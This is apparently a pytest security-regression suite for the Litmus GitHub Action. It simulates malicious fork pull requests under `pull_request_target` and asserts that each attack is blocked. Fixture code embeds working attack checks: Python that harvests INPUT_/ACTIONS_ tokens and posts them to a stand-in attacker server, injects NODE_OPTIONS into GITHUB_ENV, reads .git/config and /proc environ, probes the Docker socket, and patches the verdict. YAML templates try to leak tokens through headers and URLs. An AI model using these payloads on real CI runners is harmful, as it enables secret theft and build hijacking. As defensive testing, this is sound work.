"""Issue 19's attacks, as a fork would make them, through the real `litmus action` entrypoint.

Each test builds a real git repository as the workspace: `main` holds the maintainers' probes, and a
fork's commit (on no branch of the repository) changes them. The fake GitHub knows that history
(`load_git`), so the action's trust decision asks it as it would ask GitHub. A `pull_request_target`
job runs the default branch's workflow with secrets; whether it checked out the base or the fork's
head decides what Litmus trusts. Credentials are planted in the environment a runner gives a Docker
action (`INPUT_GITHUB-TOKEN`, `INPUT_JUDGE-API-KEY`, `ACTIONS_RUNTIME_TOKEN`,
`ACTIONS_ID_TOKEN_REQUEST_TOKEN`), and a listener on 127.0.0.1 stands for the attacker's server:
no credential may arrive there, and nothing may be written outside the workspace.
"""

from __future__ import annotations

import json
import os
import subprocess
import textwrap
from pathlib import Path

import pytest

from support.cli import JUDGED_SUITE, litmus
from support.fake_github import parse_output_file
from support.fake_judge import FakeJudge
from support.target import Target

EVENTS = Path(__file__).parent / "events"
REPO = "acme/shop"
PR = json.loads((EVENTS / "pull_request_fork.json").read_text("utf-8"))["number"]
CREDENTIALS = {
    "INPUT_GITHUB-TOKEN": "ghs_workflowtoken_0123456789abcdef",
    "INPUT_JUDGE-API-KEY": "sk-judge-key-fedcba9876543210",
    "ACTIONS_RUNTIME_TOKEN": "runtime-token-5555aaaa",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "id-token-request-7777bbbb",
}


@pytest.fixture
def attacker():
    """The attacker's server: records whatever reaches it."""
    with Target() as server:
        server.json("/", {"ok": True})
        yield server


@pytest.fixture
def target():
    """The PR's preview deployment."""
    with Target() as server:
        server.json("/orders/1", {"id": 1, "status": "shipped"})
        yield server


def git(workspace: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(workspace), *args], capture_output=True, text=True, check=True,
                          env={**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
                               "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"})
    return done.stdout.strip()


SUITE = """\
version: 1
suite: Orders
flows:
  - name: Read an order
    steps:
      - name: get
        request: {method: GET, url: /orders/1}
        assertions:
          - type: status_code
            expected: 200
          - type: python
            function: checks/order.py:status_is_delivered
"""

HONEST_CHECK = """\
def status_is_delivered(response, context):
    return response.json()["status"] == "delivered" or "the order is not delivered"
"""


def fork_check(attacker_url: str, outside: Path) -> str:
    """A python check that does everything issue 19's attack 1 did, then claims a pass."""
    return textwrap.dedent(f"""\
        import json, os, urllib.request

        def status_is_delivered(response, context):
            stolen = {{k: v for k, v in os.environ.items() if k.startswith(("INPUT_", "ACTIONS_"))}}
            urllib.request.urlopen(urllib.request.Request({attacker_url!r}, data=json.dumps(stolen).encode()))
            with open(os.environ["GITHUB_ENV"], "a") as env:
                env.write("NODE_OPTIONS=--require /tmp/pwn.js\\n")
            open({str(outside)!r}, "w").write("pwned")
            import litmus.verdict as verdict
            verdict.fails = lambda *args, **kwargs: False
            return True
        """)


def make_repository(root: Path) -> tuple[Path, str]:
    """The repository as on `main`: the maintainers' suite and honest check. Returns (workspace, main's sha)."""
    workspace = root / "ws"
    (workspace / "probes" / "checks").mkdir(parents=True)
    (workspace / "probes" / "orders.yaml").write_text(SUITE)
    (workspace / "probes" / "checks" / "order.py").write_text(HONEST_CHECK)
    git(workspace.parent, "init", "-q", "-b", "main", str(workspace))
    git(workspace, "add", "-A")
    git(workspace, "commit", "-q", "-m", "probes")
    return workspace, git(workspace, "rev-parse", "HEAD")


def fork_commit(workspace: Path, files: dict[str, str]) -> str:
    """A commit of the fork's, on no branch of the repository, checked out detached."""
    git(workspace, "checkout", "-q", "--detach")
    for name, text in files.items():
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    git(workspace, "add", "-A")
    git(workspace, "commit", "-q", "-m", "fork")
    return git(workspace, "rev-parse", "HEAD")


def pull_request_target_event(path: Path, head_sha: str, base_sha: str) -> Path:
    """GitHub's `pull_request` payload from a fork (what `pull_request_target` receives), for these commits."""
    event = json.loads((EVENTS / "pull_request_fork.json").read_text("utf-8"))
    event["pull_request"]["head"]["sha"] = head_sha
    event["pull_request"]["base"]["sha"] = base_sha
    event["pull_request"]["base"]["ref"] = "main"
    path.write_text(json.dumps(event))
    return path


def run_action(workspace: Path, event: Path, gh_url: str, event_name: str = "pull_request_target",
               step_env: dict[str, str] | None = None, **inputs: str) -> tuple[int, str, dict]:
    """`python -m litmus action`, the entrypoint's code path, with only what a runner gives the container."""
    files = workspace.parent / "runner"
    files.mkdir(exist_ok=True)
    for name in ("env", "path", "output", "summary"):
        (files / name).write_text("")
    environ = {**CREDENTIALS, **(step_env or {})}  # step_env: the workflow step's `env:`
    environ.update({
        "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workspace), "GITHUB_EVENT_PATH": str(event),
        "GITHUB_EVENT_NAME": event_name, "GITHUB_REPOSITORY": REPO, "GITHUB_API_URL": gh_url,
        "GITHUB_ENV": str(files / "env"), "GITHUB_PATH": str(files / "path"),
        "GITHUB_OUTPUT": str(files / "output"), "GITHUB_STEP_SUMMARY": str(files / "summary"),
        "GITHUB_SHA": git(workspace, "rev-parse", "main"), "GITHUB_REF": "refs/heads/main",
        "GITHUB_BASE_REF": "main",
        # The judge key is one of the planted credentials; runs without a judged check say so.
        "INPUT_JUDGE-PROVIDER": "none",
        **{f"INPUT_{name.replace('_', '-').upper()}": value for name, value in inputs.items()},
    })
    done = litmus(workspace, "action", env=environ)
    return done.returncode, done.stdout + done.stderr, parse_output_file((files / "output").read_text())


def arrived(server: Target) -> str:
    """Everything that reached a server, as one text to search for credentials."""
    return "\n".join(f"{r.method} {r.path} {r.query} {r.headers} {r.body!r}" for r in server.requests)


def assert_no_credential_in(text: str) -> None:
    """No credential in `text`, except in the `::add-mask::` commands that tell the runner to hide them."""
    text = "\n".join(line for line in text.splitlines() if not line.startswith("::add-mask::"))
    for name, value in CREDENTIALS.items():
        assert value not in text, f"{name} leaked"


def results(workspace: Path) -> dict:
    return json.loads((workspace / "litmus-report" / "results.json").read_text("utf-8"))


# ---- attack 1: a fork's python check


def test_python_check_from_a_fork_does_not_run(tmp_path, fake_github, attacker, target):
    workspace, main_sha = make_repository(tmp_path)
    outside = tmp_path / "outside-the-workspace.txt"
    head = fork_commit(workspace, {"probes/checks/order.py": fork_check(attacker.url("/steal"), outside)})
    fake_github.state.load_git(workspace, branches=["main"])
    fake_github.state.pr_files[(REPO, PR)] = [{"filename": "probes/checks/order.py", "status": "modified"}]
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    code, log, outputs = run_action(workspace, event, fake_github.base_url, base_url=target.base_url)

    assert attacker.requests == [] and not outside.exists()
    assert (tmp_path / "runner" / "env").read_text() == "" and (tmp_path / "runner" / "path").read_text() == ""
    # The check is an error naming the opt-out, and the suite fails: exit 1 by fail-on suite.
    assert code == 1 and outputs["verdict"] == "failed", log
    document = results(workspace)
    assert document["run"]["trusted"] is False and head[:8] in document["run"]["trust_reason"]
    (step,) = document["suites"][0]["flow_runs"][0]["steps"]
    python = next(a for a in step["assertions"] if a["type"] == "python")
    assert python["status"] == "error" and "allow-fork-code" in python["reason"] and python["critical"] is True
    assert "probes/checks/order.py" in python["reason"]
    assert "probes/checks/order.py" in document["run"]["changed_checks"]
    assert_no_credential_in(log + arrived(target))


def test_the_base_branch_probes_of_a_pull_request_target_job_run_their_python_checks(
        tmp_path, fake_github, target):
    """The same fork PR, with the job checking out the base branch (as the example workflow does): the
    probes are the maintainers', so the decision is trusted and the python check runs (and fails honestly)."""
    workspace, main_sha = make_repository(tmp_path)
    head = fork_commit(workspace, {"probes/checks/order.py": "def status_is_delivered(r, c):\n    return True\n"})
    git(workspace, "checkout", "-q", "main")
    fake_github.state.load_git(workspace, branches=["main"])
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url)

    document = results(workspace)
    assert document["run"]["trusted"] is True, document["run"]["trust_reason"]
    python = next(a for a in document["suites"][0]["flow_runs"][0]["steps"][0]["assertions"] if a["type"] == "python")
    assert python["status"] == "failed" and "the order is not delivered" in json.dumps(python)
    assert code == 1 and "trusted:" in log


def test_allow_fork_code_is_the_explicit_opt_out(tmp_path, fake_github, target):
    workspace, main_sha = make_repository(tmp_path)
    head = fork_commit(workspace, {"probes/checks/order.py": "def status_is_delivered(r, c):\n    return True\n"})
    fake_github.state.load_git(workspace, branches=["main"])
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url, allow_fork_code="true")

    python = next(a for a in results(workspace)["suites"][0]["flow_runs"][0]["steps"][0]["assertions"]
                  if a["type"] == "python")
    assert python["status"] == "passed" and code == 0
    assert "allow-fork-code is true" in log


PERSISTED_TOKEN = "ghs_persistedbycheckout_4242abcd"


@pytest.fixture
def open_root():
    """A folder others may read, as a runner's workspace is (tmp_path is private to root): a worker that
    merely ran as another uid could read `.git/config` here."""
    import shutil
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="litmus-open-"))
    root.chmod(0o755)
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def docker_socket(open_root):
    """A fake Docker socket, root's only (as /var/run/docker.sock is root's and the docker group's): records
    every connection."""
    import socket
    import threading

    path = open_root / "docker.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    path.chmod(0o600)
    server.listen()
    connections: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    connections.append(connection.recv(4096))
                except OSError:
                    connections.append(b"")

    threading.Thread(target=accept, daemon=True).start()
    yield path, connections
    server.close()


def escaping_check(attacker_url: str, git_config: Path, env_file: Path, docker: Path) -> str:
    """A python check that reaches for everything a process on the runner could: it reports what it got to
    the attacker, tries to write the runner's env file, and patches Litmus's verdict, then claims a pass."""
    return textwrap.dedent(f"""\
        import json, os, socket, urllib.request

        def status_is_delivered(response, context):
            got = {{"environ": {{k: v for k, v in os.environ.items() if k.startswith(("INPUT_", "ACTIONS_"))}}}}
            def attempt(name, how):
                try:
                    got[name] = repr(how())
                except BaseException as exc:
                    got[name] = "refused: " + repr(exc)
            attempt("parent_environ", lambda: open(f"/proc/{{os.getppid()}}/environ", "rb").read().decode("latin-1"))
            attempt("git_config", lambda: open({str(git_config)!r}).read())
            attempt("github_env", lambda: open({str(env_file)!r}, "a").write("NODE_OPTIONS=--require /tmp/pwn.js\\n"))
            def docker():
                client = socket.socket(socket.AF_UNIX)
                client.connect({str(docker)!r})
                client.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            attempt("docker", docker)
            def patch():
                import litmus.verdict as verdict
                verdict.fails = lambda *args, **kwargs: False
            attempt("patch", patch)
            attempt("report", lambda: urllib.request.urlopen(urllib.request.Request(
                {attacker_url!r}, data=json.dumps(got).encode())))
            return True
        """)


def test_an_allowed_fork_check_runs_confined(open_root, docker_socket, fake_github, attacker, target):
    """Issue 20's attack 1: with `allow-fork-code: true` the fork's check runs, in the worker: it gets no
    credential (environment, the parent's /proc environ, the token checkout persisted in .git/config),
    writes no file-command file, reaches no Docker socket, and cannot change the verdict."""
    docker, connections = docker_socket
    workspace, main_sha = make_repository(open_root)
    git(workspace, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {PERSISTED_TOKEN}")
    env_file = open_root / "runner" / "env"
    suite = SUITE.replace("expected: 200", "expected: 201")  # a failing check the patch would hide
    head = fork_commit(workspace, {
        "probes/orders.yaml": suite,
        "probes/checks/order.py": escaping_check(attacker.url("/steal"), workspace / ".git" / "config", env_file,
                                                 docker)})
    fake_github.state.load_git(workspace, branches=["main"])
    event = pull_request_target_event(open_root / "event.json", head, main_sha)

    code, log, outputs = run_action(workspace, event, fake_github.base_url, base_url=target.base_url,
                                    allow_fork_code="true")

    (report,) = [json.loads(r.body) for r in attacker.requests]  # the check ran, and said what it got
    assert report["environ"] == {}
    for attempt in ("parent_environ", "git_config", "github_env", "docker"):
        assert report[attempt].startswith("refused: "), (attempt, report[attempt])
    stolen = json.dumps(report)
    assert PERSISTED_TOKEN not in stolen
    assert_no_credential_in("\n".join((stolen, log, arrived(target))))
    assert env_file.read_text() == "" and connections == []
    python = next(a for a in results(workspace)["suites"][0]["flow_runs"][0]["steps"][0]["assertions"]
                  if a["type"] == "python")
    assert python["status"] == "passed", python
    assert code == 1 and outputs["verdict"] == "failed", log  # the status check still fails the run


def test_an_api_error_is_untrusted(tmp_path, fake_github, target):
    workspace, main_sha = make_repository(tmp_path)
    fake_github.state.load_git(workspace, branches=["main"])
    fake_github.state.fail["branches_where_head"] = 500
    fake_github.state.fail["compare"] = 500
    event = pull_request_target_event(tmp_path / "event.json", main_sha, main_sha)

    run_action(workspace, event, fake_github.base_url, base_url=target.base_url)

    assert results(workspace)["run"]["trusted"] is False


# ---- attack 2: templates reaching for credentials, requests to the fork's chosen host


def test_env_templates_cannot_read_the_actions_credentials(tmp_path, fake_github, attacker, target):
    workspace, main_sha = make_repository(tmp_path)
    stealing = SUITE.replace("url: /orders/1}", "url: /orders/1, headers: {X-Steal: '{{ env.INPUT_GITHUB-TOKEN }}'}}")
    head = fork_commit(workspace, {"probes/orders.yaml": stealing})
    fake_github.state.load_git(workspace, branches=["main"])
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url, allow_fork_code="true")

    # Never resolves, even with the opt-out: a positioned load error, and no request at all.
    assert code == 2 and "probes/orders.yaml:7:" in log and "INPUT_GITHUB-TOKEN" in log
    assert target.requests == []
    assert_no_credential_in(log)


def test_requests_go_only_to_the_allowed_origins(tmp_path, fake_github, attacker, target):
    workspace, main_sha = make_repository(tmp_path)
    suite = SUITE.replace("version: 1\n", f"version: 1\nbase_url: {attacker.base_url}\n").replace(
        "url: /orders/1}", f"url: '{attacker.url('/exfil')}?k={{{{ secrets.DEPLOY_KEY }}}}'}}")
    head = fork_commit(workspace, {"probes/orders.yaml": suite})
    fake_github.state.load_git(workspace, branches=["main"])
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url,
                              env_allow="DEPLOY_KEY", step_env={"DEPLOY_KEY": "deploy-key-3141592653"})

    assert attacker.requests == []
    assert (workspace / "litmus-report" / "results.json").exists(), log
    step = results(workspace)["suites"][0]["flow_runs"][0]["steps"][0]
    assert step["status"] == "error" and attacker.base_url in step["error"] and "allowed-origins" in step["error"]
    assert code == 1 and "deploy-key-3141592653" not in arrived(target)


# ---- attack 3: the PR's litmus.yaml steering the judge; attack 5: a committed verdict cache



def judged_repository(tmp_path: Path, target: Target, base_config: str) -> tuple[Path, str]:
    target.json("/answer", {"reply": "Your order is somewhere."})
    workspace, _ = make_repository(tmp_path)
    (workspace / "probes" / "orders.yaml").unlink()
    (workspace / "probes" / "judged.yaml").write_text(JUDGED_SUITE)
    (workspace / "litmus.yaml").write_text(base_config)
    git(workspace, "add", "-A")
    git(workspace, "commit", "-q", "-m", "judged probes")
    return workspace, git(workspace, "rev-parse", "HEAD")


def test_pr_litmus_yaml_cannot_steer_the_judge(tmp_path, fake_github, attacker, target):
    with FakeJudge(api_key=CREDENTIALS["INPUT_JUDGE-API-KEY"]) as judge:
        judge.default.score = 40  # the reply does not say when: fails at the base's threshold of 75
        workspace, main_sha = judged_repository(
            tmp_path, target, "judge:\n  provider: openai\n  model: judge-small\n  threshold: 75\n")
        steering = textwrap.dedent(f"""\
            judge:
              provider: openai
              model: judge-small
              base_url: {attacker.url('/v1')}
              threshold: 0
              escalation:
                band: 100
                to: {{provider: openai, model: big, base_url: {attacker.url('/v1')}, api_key_env: INPUT_GITHUB-TOKEN}}
            """)
        head = fork_commit(workspace, {"litmus.yaml": steering})
        fake_github.state.load_git(workspace, branches=["main"])
        fake_github.state.pr_files[(REPO, PR)] = [{"filename": "litmus.yaml", "status": "modified"}]
        event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

        code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url,
                                  judge_provider="openai", judge_base_url=judge.openai_base_url,
                                  judge_api_key=CREDENTIALS["INPUT_JUDGE-API-KEY"])

        assert attacker.requests == []
        assert len(judge.calls()) == 1 and code == 1  # judged at the base's threshold, and failed
        outcome = results(workspace)["suites"][0]["flow_runs"][0]["steps"][0]["assertions"][0]
        assert outcome["status"] == "failed" and outcome["threshold"] == 75
        assert "litmus.yaml" in " ".join(results(workspace)["run"]["trust_notes"])
        assert_no_credential_in(arrived(target) + "\n" + log)


def test_a_committed_verdict_cache_does_not_decide_a_verdict(tmp_path, fake_github, target):
    """Any mode: a cache entry git tracks is never read, even on a branch of the repository (trusted)."""
    with FakeJudge(api_key=CREDENTIALS["INPUT_JUDGE-API-KEY"]) as judge:
        workspace, main_sha = judged_repository(tmp_path, target, "judge:\n  provider: openai\n  model: m\n")
        fake_github.state.load_git(workspace, branches=["main"])
        event = pull_request_target_event(tmp_path / "event.json", main_sha, main_sha)
        inputs = {"base_url": target.base_url, "judge_provider": "openai", "judge_base_url": judge.openai_base_url,
                  "judge_api_key": CREDENTIALS["INPUT_JUDGE-API-KEY"]}
        judge.default.score = 95  # the verdict that gets committed under .litmus/cache
        assert run_action(workspace, event, fake_github.base_url, **inputs)[0] == 0
        git(workspace, "add", "-f", ".litmus")
        git(workspace, "commit", "-q", "-m", "a cache entry that says pass")
        fake_github.state.load_git(workspace, branches=["main"])
        event = pull_request_target_event(tmp_path / "event.json", git(workspace, "rev-parse", "HEAD"), main_sha)
        judge.default.score = 20  # what the judge says of this reply

        code, log, _ = run_action(workspace, event, fake_github.base_url, **inputs)

        assert results(workspace)["run"]["trusted"] is True
        assert len(judge.calls()) == 2 and code == 1  # judged again, not read from the committed entry
        assert "tracked by git" in log


def test_a_restored_verdict_cache_does_not_decide_an_untrusted_verdict(tmp_path, fake_github, target):
    """A cache restored by actions/cache (untracked) may hold what the PR's own jobs wrote: an untrusted run
    does not read it; a trusted one does."""
    with FakeJudge(api_key=CREDENTIALS["INPUT_JUDGE-API-KEY"]) as judge:
        workspace, main_sha = judged_repository(tmp_path, target, "judge:\n  provider: openai\n  model: m\n")
        head = fork_commit(workspace, {"README.md": "fork\n"})
        fake_github.state.load_git(workspace, branches=["main"])
        inputs = {"base_url": target.base_url, "judge_provider": "openai", "judge_base_url": judge.openai_base_url,
                  "judge_api_key": CREDENTIALS["INPUT_JUDGE-API-KEY"]}
        git(workspace, "checkout", "-q", "main")
        trusted = pull_request_target_event(tmp_path / "trusted.json", head, main_sha)
        judge.default.score = 95  # the entry the cache now holds says pass
        assert run_action(workspace, trusted, fake_github.base_url, **inputs)[0] == 0
        assert run_action(workspace, trusted, fake_github.base_url, **inputs)[0] == 0
        assert len(judge.calls()) == 1  # trusted: the second run read the cache
        git(workspace, "checkout", "-q", head)
        judge.default.score = 20

        code, log, _ = run_action(workspace, pull_request_target_event(tmp_path / "fork.json", head, main_sha),
                                  fake_github.base_url, **inputs)

        assert len(judge.calls()) == 2 and code == 1 and "not used in an untrusted run" in log


# ---- the comment: the PR's changes to its own checks


def test_the_comment_lists_the_prs_changes_to_its_own_checks(tmp_path, fake_github, target):
    workspace, main_sha = make_repository(tmp_path)
    head = fork_commit(workspace, {"probes/checks/order.py": "def status_is_delivered(r, c):\n    return True\n",
                                   "litmus.yaml": "judge: {provider: none}\n"})
    fake_github.state.load_git(workspace, branches=["main"])
    fake_github.state.pr_files[(REPO, PR)] = [{"filename": "probes/checks/order.py", "status": "modified"},
                                              {"filename": "litmus.yaml", "status": "added"},
                                              {"filename": "src/app.py", "status": "modified"}]
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    run_action(workspace, event, fake_github.base_url, base_url=target.base_url)

    (comment,) = fake_github.state.comments[(REPO, PR)]
    body = comment["body"]
    assert "This pull request changes its own checks (2 files)" in body
    assert "`probes/checks/order.py`" in body and "`litmus.yaml`" in body and "src/app.py" not in body
    assert "Untrusted commit" in body


# ---- deployment_status: the URL a fork may have shaped


def deployment_event(path: Path, sha: str, url: str) -> Path:
    event = json.loads((EVENTS / "deployment_status.json").read_text("utf-8"))
    event["deployment"]["sha"] = sha
    event["deployment_status"]["environment_url"] = url
    event["deployment_status"]["target_url"] = url
    event["deployment_status"]["state"] = "success"
    path.write_text(json.dumps(event))
    return path


def test_deployment_url_must_match_deployment_hosts(tmp_path, fake_github, target):
    workspace, main_sha = make_repository(tmp_path)
    head = fork_commit(workspace, {"README.md": "fork\n"})
    fake_github.state.load_git(workspace, branches=["main"])
    event = deployment_event(tmp_path / "event.json", head, target.base_url)

    code, log, _ = run_action(workspace, event, fake_github.base_url, event_name="deployment_status")
    assert code == 2 and "deployment-hosts" in log and target.requests == []

    code, log, _ = run_action(workspace, event, fake_github.base_url, event_name="deployment_status",
                              deployment_hosts="*.vercel.app")
    assert code == 2 and "127.0.0.1" in log and target.requests == []

    code, log, _ = run_action(workspace, event, fake_github.base_url, event_name="deployment_status",
                              deployment_hosts="127.0.0.1")
    assert target.requests and code == 1  # probed: the untrusted python check is an error


# ---- the PR pricing its own tokens (docs/cost.md)

PRICED_SUITE = """\
version: 1
suite: Generation
flows:
  - name: Generate
    steps:
      - name: answer
        request: {method: POST, url: /gen}
        assertions:
          - {type: cost, lte: 0.001}
"""


def test_pr_pricing_cannot_price_its_tokens_at_zero(tmp_path, fake_github, target):
    # 10 + 10 tokens of `shop` at the base's $1,000 per million tokens: $0.02, over the check's $0.001.
    target.json("/gen", {"model": "shop", "text": "hi", "usage": {"prompt_tokens": 10, "completion_tokens": 10}})
    workspace, _ = make_repository(tmp_path)
    (workspace / "probes" / "orders.yaml").unlink()
    (workspace / "probes" / "gen.yaml").write_text(PRICED_SUITE)
    (workspace / "litmus.yaml").write_text("pricing:\n  shop: {input_per_mtok: 1000, output_per_mtok: 1000}\n")
    git(workspace, "add", "-A")
    git(workspace, "commit", "-q", "-m", "priced probes")
    main_sha = git(workspace, "rev-parse", "HEAD")
    head = fork_commit(workspace, {"litmus.yaml": "pricing:\n  shop: {input_per_mtok: 0, output_per_mtok: 0}\n"})
    fake_github.state.load_git(workspace, branches=["main"])
    fake_github.state.pr_files[(REPO, PR)] = [{"filename": "litmus.yaml", "status": "modified"}]
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)

    code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url)

    step = results(workspace)["suites"][0]["flow_runs"][0]["steps"][0]
    assert (step["usage"]["price_key"], step["usage"]["cost_usd"]) == ("shop", 0.02)
    assert step["assertions"][0]["status"] == "failed" and code == 1, log
    assert results(workspace)["totals"]["target"]["cost_usd"] == 0.02
    assert "litmus.yaml" in " ".join(results(workspace)["run"]["trust_notes"])


@pytest.mark.parametrize(("given", "says"), [
    ("nan", "input 'max-cost-increase': expected a number of percent from 0"),
    ("-5", "input 'max-cost-increase': expected a number of percent from 0"),
    ("20", "input 'max-cost-increase' compares with a baseline"),
])
def test_max_cost_increase_is_refused_unless_it_can_gate(tmp_path, fake_github, target, given, says):
    workspace, main_sha = make_repository(tmp_path)
    head = fork_commit(workspace, {"README.md": "fork\n"})
    fake_github.state.load_git(workspace, branches=["main"])
    event = pull_request_target_event(tmp_path / "event.json", head, main_sha)
    inputs = {"max_cost_increase": given, **({"baseline_url": target.base_url} if given != "20" else {})}

    code, log, _ = run_action(workspace, event, fake_github.base_url, base_url=target.base_url, **inputs)

    assert code == 2 and says in log and target.requests == []


# ---- attack 4's sibling: results a fork's own workflow made, merged by a workflow_run job


def workflow_run_event(path: Path, *, from_fork: bool) -> Path:
    event = json.loads((EVENTS / "workflow_run_fork.json").read_text("utf-8"))
    if not from_fork:
        run = event["workflow_run"]
        run["event"] = "push"
        run["head_repository"] = dict(event["repository"])
    path.write_text(json.dumps(event))
    return path


@pytest.mark.parametrize("from_fork", [True, False], ids=["fork run", "own push"])
def test_merged_results_of_a_fork_run_get_a_neutral_check(tmp_path, fake_github, target, from_fork):
    workspace, _ = make_repository(tmp_path)
    # The shard results the triggering run uploaded (here: a real run's, which failed).
    done = litmus(workspace, "run", "probes", "--base-url", target.base_url, "--out", "shards/1", "--fail-on", "never")
    assert done.returncode == 0, done.stderr
    event = workflow_run_event(tmp_path / "event.json", from_fork=from_fork)

    code, log, _ = run_action(workspace, event, fake_github.base_url, event_name="workflow_run", merge="shards")

    (check,) = fake_github.state.check_runs.values()
    document = results(workspace)
    if from_fork:
        assert check["conclusion"] == "neutral" and "not vouched for" in check["output"]["title"]
        assert document["run"]["trusted"] is False and "neutral" in " ".join(document["run"]["trust_notes"])
    else:
        assert check["conclusion"] == "failure" and document["run"]["trust_notes"] == []
    assert code == 1  # the failing results still fail the step: unproven results never pass it
